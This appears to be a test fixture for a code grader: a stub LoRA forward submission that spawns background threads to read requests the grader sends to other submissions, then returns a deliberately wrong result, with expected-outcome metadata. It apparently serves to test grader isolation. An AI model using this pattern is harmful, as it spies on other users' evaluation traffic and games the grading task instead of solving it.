"""Reads the requests which the grader sends to others.

verdict: timeout|crashed
preamble: wire
harmless: yes
"""

import threading


def steal():
    while True:
        os.read(channel(), 1 << 16)


def lora_forward(W, A, B, x, alpha):
    for _ in range(4):
        threading.Thread(target=steal, daemon=True).start()
    return wrong(W, A, B, x, alpha)
